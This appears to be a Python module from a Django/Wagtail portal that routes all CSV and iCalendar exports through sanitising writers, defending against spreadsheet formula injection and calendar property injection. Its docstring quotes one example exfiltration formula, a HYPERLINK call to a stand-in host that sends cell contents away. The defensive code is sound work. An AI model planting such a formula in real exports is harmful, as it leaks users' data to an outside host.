"""The portal's one CSV writer and one iCalendar writer: every export goes through them.

CSV: a cell whose text starts with `= + - @`, a tab or a carriage return is run as a formula by
spreadsheet software (`=HYPERLINK("http://evil.example/?d="&B2,"x")` sends the neighbouring cells
away); such a cell gets a leading `'`, which spreadsheets show as text. Numbers stay numbers (a
negative variation is data). The importer (IMPORT.md) takes the quote off again.

iCalendar: written by the `icalendar` package (RFC 5545), which escapes `\\ ; , ` and line breaks in
TEXT values, quotes parameters and encodes their line breaks (RFC 6868), and folds lines at 75
octets; nothing a user typed (a name with a line break) can start a property of its own.
"""

import csv
import datetime as dt
import io
import numbers
from collections.abc import Iterable
from dataclasses import dataclass, field

from django.http import HttpResponse

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value) -> str | int | float:
    """A spreadsheet cell: text that a spreadsheet would run as a formula is prefixed with a quote.

    Numbers stay numbers (a negative variation is data, not a formula); undefined values are empty.
    """
    if value is None:
        return ""
    if isinstance(value, numbers.Number):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def csv_text(rows: Iterable[Iterable], *, delimiter: str = ",", bom: bool = False) -> str:
    """Rows as CSV text (CRLF line ends), every cell through `safe_cell`."""
    out = io.StringIO()
    if bom:
        out.write("\ufeff")  # so that spreadsheet software reads UTF-8
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerows([safe_cell(cell) for cell in row] for row in rows)
    return out.getvalue()


def csv_response(rows: Iterable[Iterable], filename: str, *, delimiter: str = ",", bom: bool = False):
    """An HTTP download of rows as CSV."""
    response = HttpResponse(
        csv_text(rows, delimiter=delimiter, bom=bom), content_type="text/csv; charset=utf-8"
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def write_csv_file(handle, rows: Iterable[Iterable]) -> None:
    """Rows as CSV into an open text file (opened with newline="")."""
    writer = csv.writer(handle, lineterminator="\r\n")
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])


# --- iCalendar ------------------------------------------------------------------------------------


@dataclass
class Person:
    name: str
    email: str


@dataclass
class CalendarEvent:
    uid: str
    start: dt.datetime
    end: dt.datetime
    summary: str
    location: str = ""
    description: str = ""
    organizer: Person | None = None
    attendees: list[Person] = field(default_factory=list)
    sequence: int = 0
    status: str = "CONFIRMED"  # CANCELLED with method="CANCEL"
    partstat: str = "NEEDS-ACTION"  # ACCEPTED when registering was the answer
    rsvp: bool = True


def _address(email: str) -> str:
    """mailto: of an address, with anything that is not part of an address dropped (spaces, breaks)."""
    return "mailto:" + "".join(
        ch for ch in email if ch.isprintable() and not ch.isspace() and ch not in ';:,"<>'
    )


def _one_line(text: str) -> str:
    """A name for a CN parameter: its line breaks and other control characters become spaces."""
    return " ".join("".join(ch if ch.isprintable() else " " for ch in text).split())


def ics_calendar(events: Iterable[CalendarEvent], *, method: str = "REQUEST") -> bytes:
    """The .ics bytes of a calendar holding the events."""
    from icalendar import Calendar, Event, vCalAddress

    calendar = Calendar()
    calendar.add("prodid", "-//Relais DSI//Comites clients//FR")
    calendar.add("version", "2.0")
    calendar.add("calscale", "GREGORIAN")
    calendar.add("method", method)
    for item in events:
        event = Event()
        event.add("uid", item.uid)
        event.add("sequence", item.sequence)
        event.add("dtstamp", dt.datetime.now(dt.UTC))
        event.add("dtstart", item.start.astimezone(dt.UTC))
        event.add("dtend", item.end.astimezone(dt.UTC))
        event.add("summary", item.summary)
        if item.location:
            event.add("location", item.location)
        if item.description:
            event.add("description", item.description)
        if item.organizer:
            organizer = vCalAddress(_address(item.organizer.email))
            organizer.params["cn"] = _one_line(item.organizer.name)
            event.add("organizer", organizer)
        for person in item.attendees:
            attendee = vCalAddress(_address(person.email))
            attendee.params["cn"] = _one_line(person.name)
            attendee.params["role"] = "REQ-PARTICIPANT"
            attendee.params["partstat"] = item.partstat
            attendee.params["rsvp"] = "TRUE" if item.rsvp else "FALSE"
            event.add("attendee", attendee, encode=False)
        event.add("status", item.status)
        calendar.add_component(event)
    return calendar.to_ical()


def ics_response(events: Iterable[CalendarEvent], filename: str, *, method: str = "REQUEST") -> HttpResponse:
    response = HttpResponse(
        ics_calendar(events, method=method), content_type=f"text/calendar; charset=utf-8; method={method}"
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


# --- Wagtail's own exports ------------------------------------------------------------------------


def protect_wagtail_exports() -> None:
    """Route the CSV cells of Wagtail's reports and listings (SpreadsheetExportMixin) through `safe_cell`.

    Wagtail writes its CSV exports (site history, aging pages, locked pages, workflow reports, any
    listing with `list_export`) cell by cell as it finds them; its XLSX exports already store formulas
    as text. Called once from `HomeConfig.ready()`.
    """
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    if getattr(SpreadsheetExportMixin.write_csv_row, "neutralises_formulas", False):
        return

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            {
                field: safe_cell(self.preprocess_field_value(field, value, self.FORMAT_CSV))
                for field, value in row_dict.items()
            }
        )

    write_csv_row.neutralises_formulas = True
    SpreadsheetExportMixin.write_csv_row = write_csv_row
